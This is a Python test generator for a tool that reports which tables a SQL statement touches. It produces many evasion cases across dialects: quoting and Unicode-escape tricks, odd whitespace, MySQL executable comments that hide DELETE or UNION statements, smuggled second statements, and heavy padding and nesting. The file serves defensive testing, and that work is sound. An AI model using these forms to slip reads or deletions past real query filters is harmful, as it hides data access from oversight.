#!/usr/bin/python3
"""Evasions: evasions.py PROGRAM [-v]. Statements that read or write a known table in a way that is hard to see.

Each is derived here from a base statement whose tables are known. A table is *hidden* when the answer of "PROGRAM sql" does not
name it: neither in reads and writes, nor among the relations of a statement (the second, lexical pass, and constants that name
it). One hidden table fails the run. "exact" counts the answers whose reads and writes are what the database would touch; that number
may not fall below EXACT_FLOOR percent; attacks.txt holds statements that must name the table, or not be "parsed". "forbid" names what must not be taken for the table: homoglyphs, text in comments.
"""
import argparse
import collections
import itertools
import json
import subprocess
import sys
from pathlib import Path

EXACT_FLOOR = 99.0  # per cent of those with an exact answer
T = "user_ip_log"
ALL = "postgres mysql mariadb sqlite tsql oracle hive spark databricks impala trino athena snowflake bigquery redshift duckdb clickhouse ansi".split()
DOUBLE = "postgres sqlite tsql oracle trino athena snowflake redshift duckdb clickhouse ansi".split()  # "x" is a name
BACKTICK = "mysql mariadb sqlite hive spark databricks impala bigquery clickhouse".split()
BRACKET = ["tsql", "sqlite"]
BACKSLASH = "mysql mariadb hive spark databricks impala bigquery snowflake clickhouse redshift".split()  # 'it\'s'
PLAIN = "postgres sqlite tsql oracle trino athena duckdb ansi".split()  # backslash is plain in '...'
MYSQL = ["mysql", "mariadb"]
NESTED = ["postgres", "tsql", "redshift", "duckdb", "clickhouse"]  # /* /* */ */
MERGE = "postgres tsql oracle spark databricks trino snowflake bigquery redshift duckdb ansi".split()
MIB = 1 << 20
# Not solved yet, by kind and dialect: they may be hidden. One of them that is told in all its cases must leave this list.
OPEN = set()


class Case:
    """reads and writes None: any answer that names the tables will do (dynamic text, unknown modes)."""

    def __init__(self, kind, dialect, sql, reads=(T,), writes=(), forbid=(), tables=None, exact=True, certain=None, constant=False, within=False):
        self.kind, self.dialect, self.sql = kind, dialect, sql
        self.reads, self.writes, self.forbid = sorted(set(reads)), sorted(set(writes)), set(forbid)
        self.tables = set(tables) if tables is not None else set(self.reads) | set(self.writes)
        self.exact, self.certain = exact, certain  # certain: False: must not be "parsed"
        self.within = within  # in any case, and as a part of a name
        self.constant = constant  # the name is (in one reading) in a string constant: these are told by themselves, for the policy to look into


cases = []


def add(kind, dialects, sql, reads=(T,), writes=(), **more):
    for d in [dialects] if isinstance(dialects, str) else dialects:
        cases.append(Case(kind, d, sql, reads, writes, **more))


def touch(name=T, answer=T, kinds="sjiudm"):
    """The base statements around a name as it is written: (sql, reads, writes)."""
    forms = {"s": (f"SELECT ip FROM {name} WHERE user_id = 1", [answer], []),
             "j": (f"SELECT u.name FROM users u JOIN {name} l ON l.user_id = u.id", [answer, "users"], []),
             "i": (f"INSERT INTO {name} (ip) SELECT a FROM src", ["src"], [answer]),
             "u": (f"UPDATE {name} SET ip = 'x' WHERE user_id IN (SELECT id FROM users)", ["users"], [answer]),
             "d": (f"DELETE FROM {name} WHERE user_id = 1", [], [answer]),
             "m": (f"SELECT name FROM users WHERE id IN (SELECT user_id FROM {name})", [answer, "users"], [])}
    return [forms[k] for k in kinds]


def around(kind, dialects, name, answer, kinds="sjiudm", **more):
    for sql, reads, writes in touch(name, answer, kinds):
        add(kind, dialects, sql, reads, writes, **more)


def quoting():
    for open_, close, dialects in (('"', '"', DOUBLE), ("`", "`", BACKTICK), ("[", "]", BRACKET)):
        q = lambda x: open_ + x.replace(close, close * 2) + close  # noqa: E731
        around("quoted", dialects, q(T), T)
        around("quoted schema", dialects, f"{q('crm')}.{q(T)}", f"crm.{T}", "sjid")
        around("quoted, spaces at the dot", dialects, f"{q('crm')} . {q(T)}", f"crm.{T}", "sj")
        around("half quoted", dialects, f"crm.{q(T)}", f"crm.{T}", "sj")
        around("half quoted", dialects, f"{q('crm')}.{T}", f"crm.{T}", "sj")
        around("quoted, three parts", [d for d in dialects if d not in MYSQL + ["sqlite", "hive", "impala"]], f"{q('db')}.{q('crm')}.{q(T)}", f"db.crm.{T}", "sj")
        around("quoted keyword", dialects, q("select"), "select", "sji")
        around("quoted, spaces inside", dialects, q("user ip log"), "user ip log", "sj")
        around("quoted, quote inside", [d for d in dialects if d not in ("bigquery", "clickhouse")], q("user" + close + "ip"), "user" + close + "ip", "sj")
        around("quoted, semicolon inside", dialects, q("a;b"), "a;b", "sj")
        around("quoted, comment inside", dialects, q("a--b"), "a--b", "sj")
        around("quoted, comment inside", dialects, q("a/*b"), "a/*b", "sj")
        around("quoted, parenthesis inside", dialects, q("a(b)"), "a(b)", "sj")
        add("no space around quotes", dialects, f"SELECT ip FROM{q(T)}WHERE user_id=1")
        add("no space around quotes", dialects, f"SELECT{q('ip')}FROM{q(T)}AS{q('x')}")
        add("alias with the name of a keyword", dialects, f"SELECT 1 AS {q('from')} FROM {T} {q('where')}")
        add("alias that hides a name", dialects, f"SELECT {q(T)}.ip FROM other {q(T)}", ["other"], forbid=[T])
    add("string as a table", "sqlite", f"SELECT * FROM '{T}'")
    add("string as a table", "sqlite", f"SELECT * FROM main.'{T}'", [f"main.{T}"])
    add("double quotes are a string", MYSQL, f'SELECT "FROM secret" FROM {T}', forbid=["secret"])
    add("double quotes are a string", ["hive", "spark", "databricks", "impala", "bigquery"], f'SELECT "it\\"s FROM secret" FROM {T}', forbid=["secret"])
    add("database and name in one quote", "bigquery", f"SELECT ip FROM `proj.crm.{T}`", [f"proj.crm.{T}"])
    add("dash in a project", "bigquery", f"SELECT ip FROM my-proj.crm.{T}", [f"my-proj.crm.{T}"])
    add("empty part", "tsql", f"SELECT ip FROM crm..{T}", [f"crm..{T}"], tables=[f"crm.{T}", f"crm..{T}"], exact=False)
    add("linked server", "tsql", f"SELECT ip FROM srv.crm.dbo.{T}", [f"srv.crm.dbo.{T}"])
    add("global and local temporary names", "tsql", f"SELECT ip INTO #x FROM {T}; SELECT * FROM #x", [T, "#x"], ["#x"])
    add("database link", "oracle", f"SELECT ip FROM {T}@prod", tables=[T], exact=False)
    add("database link", "oracle", f"SELECT ip FROM crm.{T}@prod.example.com l", [f"crm.{T}"], tables=[f"crm.{T}"], exact=False)


def escapes():
    for prefix in ("U&", "u&"):
        for text in ("\\0075ser_ip_log", "user\\005fip\\005Flog", "\\+000075ser_ip_log", "\\0075\\0073\\0065\\0072_ip_log", "user_ip_lo\\0067"):
            around("Unicode escape", ["postgres", "redshift", "trino"], f'{prefix}"{text}"', T, "sjid")
    around("UESCAPE", ["postgres", "trino"], "U&\"!0075ser_ip_log\" UESCAPE '!'", T, "s")
    around("UESCAPE", ["postgres"], "U&\"user#005fip#005flog\" UESCAPE '#'", T, "sji")
    around("UESCAPE after white space", ["postgres"], "U&\"!0075ser_ip_log\"\n  UESCAPE\t'!'", T, "sj")
    around("UESCAPE after a comment", ["postgres"], "U&\"!0075ser_ip_log\" /* x */ UESCAPE '!'", T, "s")
    around("surrogate pair", ["postgres"], 'U&"t\\D83D\\DE00"', "t\U0001F600", "sj")
    around("escaped backslash", ["postgres"], 'U&"a\\\\b"', "a\\b", "sj")
    around("other escape in schema", ["postgres"], 'U&"\\0063rm"."user_ip_log"', f"crm.{T}", "sj")
    add("U& without a space", "postgres", f'SELECT * FROM u &"x", {T}', [T, "u"], exact=False, tables=[T])
    add("escape in a string is no name", "postgres", f"SELECT U&'\\0066rom secret' FROM {T}", forbid=["secret"])


def letter_case():
    for name in ("USER_IP_LOG", "User_Ip_Log", "uSER_iP_lOG"):
        around("case", [d for d in ALL], name, T, "sjid")
    add("case of keywords", ALL, f"sElEcT ip fRoM {T} wHeRe a=1")
    add("case of keywords", ALL, f"SELECT ip FROM a cRoSs JoIn {T}", ["a", T])
    around("quoted upper case is another name", ["postgres", "trino", "snowflake"], f'"{T.upper()}"', T.upper(), "sj", forbid=[T])


def comments():
    for c, dialects in (("/**/", ALL), ("/* x */", ALL), ("/*'*/", ALL), ('/*"*/', ALL), ("/*;*/", ALL), ("/*--*/", ALL), ("/*\n*/", ALL), ("--\n", ALL), ("-- x\n", ALL),
                        ("-- '\n", ALL), ("-- /*\n", ALL), ("--\r\n", ALL), ("/***/", ALL), ("/*/ */", ALL), ("/* /* x */ */", NESTED), ("/*/**/*/", NESTED), ("# x\n", MYSQL + ["bigquery"]),
                        ("#'\n", MYSQL + ["bigquery"]), ("/*+ hint */", ALL), ("/* FROM secret */", ALL), ("-- FROM secret\n", ALL)):
        for sql, reads, writes in touch(T, T, "sid"):
            add("comment for a space", dialects, sql.replace(" ", c), reads, writes, forbid=["secret"])
        add("comment in a dotted name", dialects, f"SELECT ip FROM crm{c}.{c}{T} WHERE a = 1", [f"crm.{T}"])
        add("comment at the end", dialects, f"SELECT ip FROM {T} {c}")
        add("comment in front", dialects, f"{c}SELECT ip FROM {T}")
    add("comment without its end", ["sqlite"], f"SELECT ip FROM {T} /* FROM x", forbid=["x"])
    add("comment without its end", ALL, f"SELECT ip FROM {T} /* FROM x", exact=False)
    add("line comment at the end", ALL, f"SELECT ip FROM {T} --")
    add("carriage return ends a line comment", ["postgres"], f"SELECT 1 -- x\r FROM {T}")
    add("minus minus without a space", MYSQL, f"SELECT 1--1 FROM {T}")
    add("minus minus without a space", MYSQL, f"SELECT 1--a FROM {T}")
    add("comment that is none: text after", MYSQL, f"SELECT ip FROM {T} WHERE a = 1 --1 OR b IN (SELECT c FROM users)", [T, "users"])
    for body, reads in ((f"FROM {T}", [T]), (f"50000 FROM {T}", [T]), (f"50000FROM {T}", [T]), (f"40101 FROM users JOIN {T}", [T, "users"]), (f"00000 FROM {T}", [T]), (f"32302 FROM {T}*/ /*! WHERE 1", [T])):
        add("executable comment", MYSQL, f"SELECT ip /*!{body} */", reads)
        add("executable comment", ["ansi"], f"SELECT ip /*!{body} */", reads, exact=False)
    add("executable comment: name", MYSQL, f"SELECT ip FROM /*!50000 {T} */")
    add("executable comment: schema", MYSQL, f"SELECT ip FROM crm./*!50000 {T}*/", [f"crm.{T}"])
    add("executable comment: union", MYSQL, f"SELECT a FROM b /*!50000 UNION SELECT ip FROM {T} */", ["b", T])
    add("executable comment: nested", MYSQL, f"SELECT a FROM b /*!50000 UNION /* x */ SELECT ip FROM {T} */", ["b", T])
    add("executable comment: statement", MYSQL, f"/*!50000 SELECT ip FROM {T} */")
    add("executable comment: statement", MYSQL, f"/*!40000 DELETE FROM {T} */", [], [T])
    add("executable comment: whole second statement", MYSQL, f"SELECT 1; /*!50000 DELETE FROM {T} */;", [], [T])
    add("executable comment with a string", MYSQL, f"SELECT a /*!50000 , '*/' FROM {T} */", exact=False)
    add("executable comment: far version", MYSQL, f"SELECT a FROM b /*!99999 UNION SELECT ip FROM {T} */", ["b", T], exact=False)
    add("MariaDB executable comment", "mariadb", f"SELECT ip /*M! FROM {T} */")
    add("MariaDB executable comment", "mariadb", f"SELECT ip /*M!100100 FROM {T} */")
    add("MariaDB executable comment", "mysql", f"SELECT ip /*M!100100 FROM {T} */", exact=False)
    add("hint that names tables", ["oracle", "mysql", "spark"], f"SELECT /*+ full(x) index(secret) */ ip FROM {T} x", forbid=["secret"])
    add("div sign is no comment", ALL, f"SELECT a/ * 2 FROM {T}", exact=False)
    add("operators beside a comment", ["postgres"], f"SELECT 1 +/* x */ 2 @-- y\n 3 FROM {T}")
    add("sharp is an operator", ["postgres"], f"SELECT 1 # 2 FROM {T}")
    add("sharp arrow is an operator", ["postgres"], f"SELECT a #>> '{{a}}', b #- '{{c}}' FROM {T}")
    add("slash star inside an operator", ["postgres"], f"SELECT 1 */* x */ 2 FROM {T}")


def white_space():
    for c, dialects in (("\t", ALL), ("\n", ALL), ("\r", ALL), ("\r\n", ALL), (" \n\t ", ALL), ("\f", ["postgres", "mysql", "mariadb", "sqlite", "oracle", "redshift", "duckdb", "clickhouse", "tsql"]),
                        ("\v", MYSQL + ["postgres", "duckdb", "clickhouse"])):
        for sql, reads, writes in touch(T, T, "sjidu"):
            add("white space", dialects, sql.replace(" ", c), reads, writes)
    for c in ("\u00a0", "\u3000", "\u2003"):
        for sql, reads, writes in touch(T, T, "sd"):
            add("Unicode white space", ["tsql", "duckdb", "bigquery"], sql.replace(" ", c), reads, writes)
    for c in ("\u00a0", "\u3000", "\u2003"):  # white space to some, a letter to others
        add("odd space", ["spark", "databricks", "snowflake", "clickhouse", "ansi"], f"SELECT ip FROM {c}{T}", tables=[T], exact=False)
        add("odd space", ["spark", "databricks", "snowflake", "clickhouse", "ansi"], f"SELECT{c}ip{c}FROM{c}{T}{c}WHERE{c}a=1", tables=[T], exact=False)
        around("a letter like a space", ["postgres", "mysql", "mariadb", "sqlite"], f"a{c}b", f"a{c}b", "sj")
    for c in ("\v", "\f"):
        add("odd space", ALL, f"SELECT ip FROM {c}{T}", tables=[T], exact=False)
        add("odd space", ALL, f"SELECT{c}ip{c}FROM{c}{T}{c}WHERE{c}a=1", tables=[T], exact=False)
    for c in ("\ufeff", "\ufeff\n"):
        add("byte order mark in front", ALL, f"{c}SELECT ip FROM {T}", exact=False)
    add("byte order mark", "sqlite", f"SELECT ip FROM \ufeff{T}")
    for c in ("\0", "\1", "\x07", "\x1a", "\x7f", "\u200b", "\u200e", "\u202e"):
        add("control character in front", ALL, f"{c}SELECT ip FROM {T}", exact=False)
        add("control character in the middle", ALL, f"SELECT ip {c} FROM {T}", exact=False)
        add("control character after the statement", ALL, f"SELECT 1 {c}; SELECT ip FROM {T}", exact=False)
        add("control character in a string", ALL, f"SELECT 'a{c}b' FROM {T}")
    add("NUL, then more", ALL, f"SELECT 1 FROM users\0 UNION SELECT ip FROM {T}", [T, "users"], exact=False)
    add("NUL in a comment", ALL, f"SELECT 1 /* \0 */ FROM {T}", exact=False)
    add("no spaces at all", ALL, f"SELECT(ip)FROM({T})", exact=False)
    add("no spaces at all", ALL, f"SELECT(ip)FROM {T} WHERE(a=1)")
    add("no spaces at all", ALL, f"SELECT*FROM {T}")
    add("number against a keyword", ["tsql", "oracle"], f"SELECT 1FROM {T}")
    add("number against a keyword", ["mysql", "mariadb", "tsql", "oracle", "postgres"], f"SELECT 1.FROM {T}")
    add("number against a keyword", ["postgres"], f"SELECT 1FROM {T} WHERE a = 1OR b = 2", exact=False)  # before PostgreSQL 15
    add("string against a keyword", ALL, f"SELECT'a'FROM {T}")
    add("parenthesis against a keyword", ALL, f"SELECT(1)FROM {T}")
    add("semicolons in front", ALL, f";;;SELECT ip FROM {T}")


UNRESERVED = """abort absolute access action add admin after aggregate also alter always at attach attribute backward before begin between bigint bit boolean by cache call called
cascade catalog chain char character checkpoint class close cluster coalesce columns comment commit conflict content continue copy cost csv cube current cursor cycle data database day
deallocate dec decimal declare defaults delete delimiter depends detach dictionary disable discard document domain double drop each enable encoding enum escape event exclude execute
exists explain expression extension external extract family filter finalize first float following force forward function generated global greatest handler header hold hour identity if
immediate import include increment index inherit inline inout input insert instead int integer interval invoker isolation key label language large last least level listen load local location
lock locked logged mapping match matched materialized maxvalue merge method minute mode month move name names national nchar new next no none normalize nothing notify nowait nullif nulls
numeric object of off old operator option options ordinality others out over overlay overriding owned owner parallel parameter parser partial partition passing password plans policy position
preceding precision prepare prepared preserve prior privileges procedure program publication quote range read real reassign recursive ref refresh reindex relative release rename repeatable
replace replica reset restart restrict return returns revoke role rollback rollup routine row rows rule savepoint schema scroll search second security sequence serializable server session set
setof share show simple skip smallint snapshot sql stable standalone start statement statistics stdin stdout storage stored strict strip subscription substring support sysid system tables
tablespace temp template temporary text ties time timestamp transaction treat trigger trim truncate trusted type types unbounded uncommitted unknown unlisten unlogged until update vacuum valid
validate validator value values varchar varying version view views volatile whitespace within without work wrapper write xml year yes zone""".split()


def keywords():
    for k in UNRESERVED:  # the server's parser takes each of these
        add("keyword as a table", "postgres", f"SELECT * FROM {k}", [k])
        add("keyword as a table", "postgres", f"SELECT * FROM {k}, {T}", [k, T])
        add("keyword as an alias", "postgres", f"SELECT * FROM users {k}, {T}", ["users", T])
        add("keyword as an alias", "postgres", f"SELECT * FROM users JOIN {k} ON true JOIN {T} x ON {k}.a = x.b", ["users", k, T])
        add("keyword as a CTE", "postgres", f"WITH {k} AS (SELECT * FROM {T}) SELECT * FROM {k}", [T], forbid=[k])
        add("keyword as a schema", "postgres", f"SELECT * FROM {k}.{T}", [f"{k}.{T}"])
    for k in "data value type role name user_data date time text status level position language comment event source target matched rows first last year month key index_ view".split():
        add("common word as a table", ALL, f"SELECT * FROM x_{k} JOIN {T} ON a = b", [f"x_{k}", T])
    for k in "data status level source target event events name".split():
        add("common word as a table", ALL, f"SELECT * FROM {k} a JOIN {T} b ON a.i = b.i", [k, T])
    for k in "date value text role status event source position comment level data type".split():
        add("common word as a column", ALL, f"SELECT {k}, t.{k} FROM {T} t WHERE t.{k} = 1")
    for k in "abort action after before begin cascade conflict database desc each end explain fail for ignore initially instead key like match of offset plan pragma query replace row temp trigger vacuum view virtual with without".split():
        add("keyword as a table", "sqlite", f"SELECT * FROM {k} WHERE a = 1", [k], exact=k not in ("for", "with", "like", "match", "end"))


def padding():
    fill = {"spaces": " " * MIB, "line feeds": "\n" * MIB, "a comment": "/*" + "x" * MIB + "*/", "line comments": "-- x\n" * (MIB // 5), "comments": "/* ; ' */" * (MIB // 9)}
    for n, (kind, text) in enumerate(fill.items()):
        d = ("postgres", "mysql", "sqlite", "tsql", "oracle")[n]
        add("1 MiB of " + kind, d, f"SELECT ip {text} FROM {T}")
    add("1 MiB of spaces in a dotted name", "postgres", f"SELECT ip FROM crm{' ' * MIB}.{T}", [f"crm.{T}"])
    add("1 MiB of a string", "mysql", f"SELECT '{'x' * MIB}' FROM {T}")
    add("1 MiB of a list", "postgres", "SELECT ip FROM users WHERE id IN (" + "1," * (MIB // 2) + f"1) UNION SELECT ip FROM {T}", ["users", T])
    add("1 MiB of semicolons", "sqlite", ";" * MIB + f"SELECT ip FROM {T}")
    add("1 MiB of columns", "duckdb", "SELECT " + "a," * (MIB // 2) + f"b FROM {T}")
    add("5,000 statements", "mysql", "SELECT 1;" * 5000 + f"SELECT ip FROM {T}", exact=False)
    add("5,000 tables", "postgres", "SELECT * FROM " + ", ".join(f"t{i}" for i in range(5000)) + f", {T}", [f"t{i}" for i in range(5000)] + [T], exact=False, certain=False)
    add("name of 10,000 characters beside it", "postgres", f"SELECT * FROM {'x' * 10000}, {T}", exact=False, tables=[T])


def nesting():
    for n in (50, 500, 10000):
        e = n <= 500
        for d in ("postgres", "mysql", "sqlite", "tsql", "oracle", "snowflake", "ansi"):
            add(f"{n} parentheses", d, "SELECT " + "(" * n + "1" + ")" * n + f" FROM {T}", exact=e)
            add(f"{n} parentheses around the table", d, "SELECT ip FROM " + "(" * n + T + ")" * n, exact=False)
            add(f"{n} subqueries", d, "SELECT * FROM " + "(SELECT * FROM " * n + T + ") x" * n, exact=e)
            add(f"{n} subqueries in WHERE", d, "SELECT 1" + " WHERE a IN (SELECT b FROM c" * n + f" JOIN {T} x ON 1 = 1" + ")" * n, ["c", T], exact=e)
            add(f"{n} calls", d, "SELECT " + "f(" * n + f"(SELECT ip FROM {T})" + ")" * n, exact=e)
        add(f"{n} CASE", "postgres", "SELECT " + "CASE WHEN a THEN " * n + f"(SELECT ip FROM {T})" + " END" * n, exact=e)
        add(f"{n} CTEs", "postgres", "WITH c0 AS (SELECT * FROM " + T + ")" + "".join(f", c{i} AS (SELECT * FROM c{i - 1})" for i in range(1, n)) + f" SELECT * FROM c{n - 1}", exact=e)
        add(f"{n} nested WITH", "postgres", "WITH a AS (" * n + f"SELECT * FROM {T}" + ") SELECT * FROM a" * n, exact=e)
        add(f"{n} joins", "mysql", f"SELECT * FROM {T}" + " JOIN a USING (i)" * n, [T, "a"], exact=e)
        add(f"{n} unions", "sqlite", "SELECT a FROM b UNION " * n + f"SELECT ip FROM {T}", ["b", T], exact=e)
        add(f"{n} nested comments", "postgres", "SELECT ip " + "/*" * n + " FROM x " + "*/" * n + f" FROM {T}", exact=True, forbid=["x"])
        add(f"{n} brackets", "postgres", "SELECT " + "ARRAY[" * n + "1" + "]" * n + f" FROM {T}", exact=e)
        add(f"{n} closing parentheses too many", "mysql", f"SELECT 1 {')' * n} FROM {T}", exact=False)
        add(f"{n} opening parentheses without an end", "mysql", f"SELECT {'(' * n} ip FROM {T}", exact=False)
        add(f"{n} NOT", "postgres", f"SELECT {'NOT ' * n} a FROM {T}")
        add(f"{n} minus", "mysql", f"SELECT {'- ' * n} a FROM {T}")


def strings():
    add("quote doubled", ALL[:-1], f"SELECT 'it''s FROM secret' FROM {T}", forbid=["secret"])
    add("backslash in front of the quote", BACKSLASH, f"SELECT 'it\\'s FROM secret' FROM {T}", forbid=["secret"])
    add("backslash backslash", BACKSLASH, f"SELECT 'a\\\\' FROM {T} -- ' FROM secret", forbid=["secret"])
    add("backslash is plain", PLAIN, f"SELECT 'a\\' FROM {T} -- ' FROM secret", forbid=["secret"])
    add("backslash is plain", PLAIN, f"SELECT '\\', ip FROM {T} WHERE a = '\\'")
    add("backslash, other mode", MYSQL, f"SELECT 'a\\' FROM {T} -- '", exact=False, constant=True)
    add("backslash, other mode", "postgres", f"SELECT 'a\\' FROM secret -- ', ip FROM {T}", exact=False, tables=[])
    add("E string", ["postgres", "duckdb"], f"SELECT E'it\\'s FROM secret' FROM {T}", forbid=["secret"])
    add("E string", ["postgres", "duckdb"], f"SELECT e'\\\\' FROM {T}")
    add("E string with doubled quotes", ["postgres"], f"SELECT E'a''\\'' FROM {T}")
    add("adjacent literals", ["postgres"], f"SELECT 'a'\n'b FROM secret' FROM {T}", forbid=["secret"])
    add("adjacent E literals", ["postgres"], f"SELECT E'a\\''\n'b\\' FROM secret' FROM {T}", forbid=["secret"])
    add("adjacent literals, comment between", ["postgres"], f"SELECT 'a' -- x\n 'b' FROM {T}")
    add("adjacent literals", MYSQL, f"SELECT 'a' 'b' \"c\" FROM {T}")
    add("charset prefix", MYSQL, f"SELECT _utf8mb4'a\\'' , N'b', x'41', b'01', 0x41 FROM {T}")
    add("national string", ["postgres", "tsql", "oracle", "mysql"], f"SELECT N'a FROM secret' FROM {T}", forbid=["secret"])
    add("bit and hex strings", ["postgres"], f"SELECT B'01', X'1F', U&'a\\0041' FROM {T}")
    for tag in ("", "a", "FROM", "_x1", "\u00e9"):
        add("dollar quotes", ["postgres", "duckdb"] if tag.isascii() else ["postgres"], f"SELECT ${tag}$ ' FROM secret ${tag}$ FROM {T}", forbid=["secret"])
        add("dollar quotes inside another", ["postgres"], f"SELECT $o$ ${tag}$ FROM secret ${tag}$ $o$ FROM {T}", forbid=["secret"])
    add("dollar tag that only begins the same", ["postgres"], f"SELECT $a$ $ab$ FROM secret $a$ FROM {T}", forbid=["secret"])
    add("dollar inside a name", ["postgres"], f"SELECT a$b$ FROM {T} WHERE c$b$ = 1")
    add("parameters with a dollar", ["postgres"], f"SELECT $1, $2 FROM {T} WHERE a = $3")
    add("dollar string", ["snowflake"], f"SELECT $$it's FROM secret$$ FROM {T}", forbid=["secret"])
    for o, c in ("[]", "()", "{}", "<>", "!!", "||", "##", "''", '""', "xx"):
        body = "it's FROM secret" if o != "'" else "a FROM secret"
        add("q string", ["oracle"], f"SELECT q'{o}{body}{c}' FROM {T}", forbid=["secret"])
        add("nq string", ["oracle"], f"SELECT nQ'{o}{body}{c}', 1 FROM {T}", forbid=["secret"])
    add("q string, odd ends", ["oracle"], f"SELECT q'[ ]] ' ]' FROM {T}")
    add("q string, odd ends", ["oracle"], f"SELECT q'!it''s!' FROM {T}")
    add("q is a name", ["postgres", "mysql"], f"SELECT q'[a' FROM {T}", exact=False)
    for quote in ("'", '"'):
        add("triple quotes", ["bigquery"], f"SELECT {quote * 3}it's \"FROM secret\" {quote * 3} FROM {T}", forbid=["secret"])
        add("triple quotes, escaped", ["bigquery"], f"SELECT {quote * 3} \\{quote * 3} FROM secret {quote * 3} FROM {T}", forbid=["secret"])
        add("raw string", ["bigquery", "databricks", "spark"], f"SELECT r{quote}\\d{quote} FROM {T}")
        add("raw string", ["bigquery"], f"SELECT r{quote}\\{quote} FROM secret {quote}, R{quote}a{quote}, b{quote}b{quote}, rb{quote}c{quote} FROM {T}", forbid=["secret"])
        add("empty string", ["bigquery"], f"SELECT {quote}{quote}, {quote * 6} FROM {T}")
    add("heredoc", ["clickhouse"], f"SELECT $h$ ' FROM secret $h$ FROM {T}", forbid=["secret"])
    add("string without its end", ALL, f"SELECT ip FROM {T} WHERE a = 'x", exact=False)
    add("name without its end", DOUBLE, f'SELECT ip FROM "{T}', exact=False)
    add("string without its end in front", ALL, f"SELECT 'x FROM {T}", exact=False)
    add("backslash at the very end", BACKSLASH, f"SELECT ip FROM {T} WHERE a = 'x\\", exact=False)
    add("last quote doubled", ALL, f"SELECT ip FROM {T} WHERE a = 'x''", exact=False)
    add("line feed in a string", ALL, f"SELECT 'a\n FROM secret\n' FROM {T}", forbid=["secret"])
    add("semicolon in a string", ALL, f"SELECT ';', ip FROM {T}")
    add("comment in a string", ALL, f"SELECT '/*', ip FROM {T} WHERE a = '*/'")
    add("line comment in a string", ALL, f"SELECT '--', ip FROM {T}")
    add("dollar quote without its end", ["postgres"], f"SELECT $a$ FROM {T}", exact=False)


def ctes():
    add("CTE that hides its own table", [d for d in ALL if d != "sqlite"], f"WITH {T} AS (SELECT * FROM {T}) SELECT * FROM {T}")
    add("CTE that hides its own table, other case", [d for d in ALL if d != "sqlite"], f"WITH {T} AS (SELECT * FROM {T}) SELECT * FROM {T.upper()}")
    add("CTE with the name, schema named", ALL, f"WITH {T} AS (SELECT 1 AS ip) SELECT * FROM crm.{T}", [f"crm.{T}"])
    add("CTE in another scope", ALL, f"SELECT * FROM (WITH {T} AS (SELECT 1 AS ip) SELECT * FROM {T}) x, {T}")
    add("CTE in a subquery, table outside", ALL, f"SELECT (WITH {T} AS (SELECT 1 AS a) SELECT a FROM {T}) FROM {T}", exact=True)
    add("CTE used before it stands", [d for d in ALL if d not in ("sqlite", "tsql", "bigquery")], f"WITH a AS (SELECT * FROM {T}), {T} AS (SELECT 1) SELECT * FROM a, {T}")
    add("CTE not for a quoted name", ["postgres"], f'WITH {T} AS (SELECT 1) SELECT * FROM "{T.upper()}"', [T.upper()])
    add("CTE quoted", ["postgres", "trino", "duckdb"], f'WITH "{T}" AS (SELECT 1) SELECT * FROM {T}, secret', ["secret"])
    add("CTE in a union arm", ALL, f"SELECT a FROM b UNION ALL (WITH b AS (SELECT ip AS a FROM {T}) SELECT a FROM b)", ["b", T])
    add("CTE beside a write", ["postgres"], f"WITH {T} AS (SELECT 1) DELETE FROM {T} WHERE a IN (SELECT * FROM {T})", [], [T])
    add("CTE beside a write", ["postgres"], f"WITH {T} AS (SELECT * FROM users) INSERT INTO {T} SELECT * FROM {T}", ["users"], [T])
    add("CTE, recursive, forward", ["postgres"], f"WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT * FROM {T}) SELECT * FROM a")
    add("CTE, recursive", ALL, f"WITH RECURSIVE r AS (SELECT id FROM {T} UNION ALL SELECT id + 1 FROM r) SELECT * FROM r")
    add("CTE, recursion without the word", ["tsql", "oracle", "snowflake", "sqlite"], f"WITH r AS (SELECT id FROM {T} UNION ALL SELECT id + 1 FROM r) SELECT * FROM r")
    add("CTE, no recursion without the word", ["postgres", "mysql"], f"WITH r AS (SELECT id FROM {T} UNION ALL SELECT id + 1 FROM r) SELECT * FROM r", [T, "r"])
    add("CTE with columns", ALL, f"WITH c (a, b) AS (SELECT x, y FROM {T}) SELECT * FROM c")
    add("CTE that writes", ["postgres"], f"WITH d AS (DELETE FROM {T} RETURNING *) SELECT * FROM d", [], [T])
    add("CTE that writes", ["postgres"], f"WITH d AS (UPDATE {T} SET ip = NULL RETURNING *), i AS (INSERT INTO a SELECT * FROM d RETURNING 1) SELECT * FROM i", [], [T, "a"])
    add("CTE, materialized", ["postgres", "sqlite", "duckdb"], f"WITH c AS NOT MATERIALIZED (SELECT * FROM {T}) SELECT * FROM c")
    add("CTE with SEARCH", ["postgres"], f"WITH RECURSIVE c AS (SELECT a FROM {T} UNION ALL SELECT a FROM c) SEARCH DEPTH FIRST BY a SET o CYCLE a SET z USING p SELECT * FROM c, q", [T, "q"])
    add("CTE with a function", ["oracle"], f"WITH FUNCTION f RETURN NUMBER IS BEGIN RETURN 1; END; c AS (SELECT * FROM {T}) SELECT f FROM c", exact=False)
    add("CTE of an expression", ["clickhouse"], f"WITH 1 AS x, (SELECT max(a) FROM b) AS m SELECT x, m FROM {T}", ["b", T])
    add("derived table with the name", ALL, f"SELECT * FROM (SELECT * FROM {T}) {T}")
    add("derived table with the name hides nothing", ALL, f"SELECT * FROM (SELECT 1 AS a) {T} JOIN crm.{T} x ON 1 = 1", [f"crm.{T}"])
    add("alias with the name of another table", ALL, f"SELECT users.a FROM {T} users")
    add("alias, then the table of that name", ALL, f"SELECT * FROM users {T}, {T} x", ["users", T])


def many():
    add("second statement", ALL, f"SELECT 1; SELECT ip FROM {T}")
    add("second statement", ALL, f"SELECT a FROM b; DELETE FROM {T};", ["b"], [T])
    add("hundredth statement", ALL, "SELECT 1;" * 99 + f"SELECT ip FROM {T}")
    add("statement after a broken one", ALL, f"SELECT FROM WHERE ((; SELECT ip FROM {T}", exact=False)
    add("statement after an unknown one", ALL, f"FROBNICATE THE wombat; SELECT ip FROM {T}", exact=False)
    add("no semicolon", ["tsql"], f"SELECT 1 SELECT ip FROM {T}")
    add("no semicolon", ["tsql"], f"DECLARE @a int SET @a = 1 DELETE FROM {T} WHERE b = @a", [], [T])
    add("no semicolon", ["tsql"], f"IF EXISTS (SELECT 1 FROM users) DELETE FROM {T} ELSE UPDATE a SET b = 1", ["users"], [T, "a"])
    add("no semicolon", ["tsql"], f"UPDATE a SET b = 1 UPDATE {T} SET b = 2", [], [T, "a"])
